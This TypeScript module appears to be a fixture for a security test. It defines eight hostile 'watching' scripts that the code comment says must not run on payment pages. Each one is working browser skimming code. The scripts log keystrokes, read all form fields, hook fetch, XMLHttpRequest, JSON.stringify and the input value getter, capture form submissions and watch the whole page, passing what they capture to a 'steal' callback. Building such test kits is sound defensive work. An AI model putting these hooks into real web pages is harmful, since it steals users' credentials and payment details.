import type { HostileScript } from "./hostile-kit.ts";

/** Watch what is typed on the page itself: they must not run where money is paid. */
export const WATCHING_SCRIPTS: Readonly<Record<string, HostileScript>> = {
  "listens to keys": ({ steal, isFirst }) => {
    if (!isFirst) return;
    addEventListener("input", ({ target }) => steal((target as HTMLInputElement).value), true);
  },
  "reads fields": ({ steal }) => {
    steal([...document.querySelectorAll("input, select, textarea")].map((one) => (one as HTMLInputElement).value));
  },
  "replaces fetch": ({ steal, isFirst }) => {
    if (!isFirst) return;
    const own = window.fetch;
    window.fetch = (input, init) => {
      steal(init?.body);
      return own(input, init);
    };
  },
  "replaces the prototype of requests": ({ steal, isFirst }) => {
    if (!isFirst) return;
    const send = Reflect.get(XMLHttpRequest.prototype, "send") as (this: XMLHttpRequest, body: unknown) => void;
    XMLHttpRequest.prototype.send = function stealing(body) {
      steal(body);
      send.call(this, body);
    };
  },
  "replaces JSON": ({ steal, isFirst }) => {
    if (!isFirst) return;
    const own = JSON.stringify;
    JSON.stringify = ((value: unknown) => {
      steal(String(value) + own(value));
      return own(value);
    }) as typeof JSON.stringify;
  },
  "replaces the value of fields": ({ steal, isFirst }) => {
    if (!isFirst) return;
    const found: PropertyDescriptor = { ...Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value") };
    Object.defineProperty(HTMLInputElement.prototype, "value", {
      ...found,
      get() {
        const value: unknown = found.get?.call(this);
        steal(value);
        return value;
      },
    });
  },
  "submits forms to its own host": ({ steal, isFirst }) => {
    if (!isFirst) return;
    document.addEventListener("submit", (event) => steal([...new FormData(event.target as HTMLFormElement)]), true);
  },
  "watches the page change": ({ steal, isFirst }) => {
    if (!isFirst) return;
    const watcher = new MutationObserver(() => steal(document.documentElement.outerHTML));
    watcher.observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  },
};
